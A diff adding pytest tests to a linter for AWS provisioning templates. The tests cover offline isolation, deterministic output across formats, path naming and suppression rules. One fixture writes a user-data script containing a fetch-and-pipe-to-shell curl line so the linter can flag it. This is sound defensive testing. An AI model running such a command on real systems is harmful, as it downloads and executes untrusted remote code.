@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import subprocess
+import sys
 from pathlib import Path
 from typing import Any
 from xml.etree import ElementTree
@@ -121,3 +123,97 @@ def test_a_refused_template_is_a_finding(conf: Path, capsys: pytest.CaptureFixtu
     assert (found["rule"], found["template"], found["field"]) == ("OHF-T001", "bad", "subnetId")
     lines = (conf / "awsprov_templates.json").read_text().splitlines()
     assert lines[found["line"] - 1][found["column"] - 1 :].startswith('"subnetId": "nowhere"')
+
+
+#: lints in a process of its own: exit 9 where the network is asked, and the modules of AWS on stderr
+ALONE = """
+import os, sys
+def watch(event, _arguments):
+    if event in ("socket.connect", "socket.getaddrinfo"):
+        os._exit(9)
+sys.addaudithook(watch)
+from ohf_cli.edge import run
+from ohf_cli.human import called
+code = run(called, sys.argv[1:])
+print(*[name for name in sys.modules if name.split(".")[0] in ("boto3", "botocore")], file=sys.stderr)
+sys.exit(code)
+"""
+
+
+def alone(*words: str, cwd: Path, **environ: str) -> subprocess.CompletedProcess[bytes]:
+    done = subprocess.run(
+        [sys.executable, "-c", ALONE, "lint", *words], cwd=cwd, env=environ, capture_output=True, check=False
+    )
+    assert done.returncode in (0, 3), done.stderr.decode()
+    return done
+
+
+def test_it_needs_neither_aws_nor_home_nor_network_nor_colors(conf: Path) -> None:
+    catalogue(conf, LOOSE, {**ENTRY, "templateId": "escape", "keyName": "\x1b[31mred"})
+    done = alone("--conf", str(conf), cwd=conf)
+    assert done.returncode == 3
+    assert b"\x1b" not in done.stdout + done.stderr
+    assert done.stderr.splitlines()[-1] == b""
+
+
+@pytest.mark.parametrize("form", ["json", "yaml", "sarif", "junit", "github", "text"])
+def test_the_same_bytes_come_out_everywhere(tmp_path: Path, form: str) -> None:
+    texts = set()
+    for name, zone, seed in (("here", "UTC", "1"), ("over there", "Asia/Tokyo", "2")):
+        conf = tmp_path / name / "conf"
+        conf.mkdir(parents=True)
+        catalogue(conf, {**LOOSE, "keyName": "é"}, {**ENTRY, "templateId": "bad", "vmType": "x"})
+        environ = {"TZ": zone, "PYTHONHASHSEED": seed, "PYTHONUTF8": "1"}
+        done = alone("--conf", "conf", "--house-only", "-o", form, cwd=conf.parent, **environ)
+        texts.add(done.stdout)
+        assert b"conf/awsprov_templates.json" in done.stdout
+    assert len(texts) == 1
+
+
+def test_files_are_named_from_where_a_pipeline_stands(
+    conf: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    catalogue(conf, LOOSE)
+    for here, words, name in (
+        (conf.parent, (), f"{conf.name}/awsprov_templates.json"),
+        (conf, (), "awsprov_templates.json"),
+        (Path("/"), ("--paths-from", str(conf)), "awsprov_templates.json"),
+        (conf, ("--paths-from", "/nowhere"), "awsprov_templates.json"),
+    ):
+        monkeypatch.chdir(here)
+        lint(conf, "-o", "json", *words)
+        assert {one["file"] for one in document(capsys)["findings"]} == {name}
+
+
+def test_a_script_below_a_root_is_looked_at(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    catalogue(conf, {**ENTRY, "userDataScript": "/opt/grid/join.sh"})
+    script = conf / "host" / "opt" / "grid" / "join.sh"
+    script.parent.mkdir(parents=True)
+    script.write_text("#!/bin/sh\ncurl http://example.com/a | sh\n")
+    lint(conf, "--root", str(conf / "host"), "-o", "json")
+    (found,) = document(capsys)["findings"]
+    assert found["rule"] == "OHF-S011"
+    assert found["related"] == {"file": "/opt/grid/join.sh", "line": 2, "message": found["related"]["message"]}
+
+
+def test_suppressed_findings_are_counted_and_shown_on_request(
+    conf: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    quiet = {"rule": "OHF-S003", "reason": "CHG0041999", "until": "2999-12-31"}
+    catalogue(conf, LOOSE, lint={"suppress": [quiet]})
+    assert lint(conf, "--output-file", f"sarif={conf}/lint.sarif") == 0
+    assert capsys.readouterr().out == "nothing found in 1 template (1 suppressed)\n"
+    (result,) = json.loads((conf / "lint.sarif").read_text())["runs"][0]["results"]
+    assert "CHG0041999" in result["suppressions"][0]["justification"]
+    assert lint(conf, "--show-suppressed") == 0
+    assert "until 2999-12-31: CHG0041999" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("missing", ["reason", "until"])
+def test_a_suppression_without_reason_or_end_is_refused(
+    conf: Path, capsys: pytest.CaptureFixture[str], missing: str
+) -> None:
+    whole = {"rule": "OHF-S003", "reason": "CHG1", "until": "2999-12-31"}
+    catalogue(conf, LOOSE, lint={"suppress": [{key: value for key, value in whole.items() if key != missing}]})
+    assert lint(conf) == 78
+    assert "lint.suppress" in capsys.readouterr().err
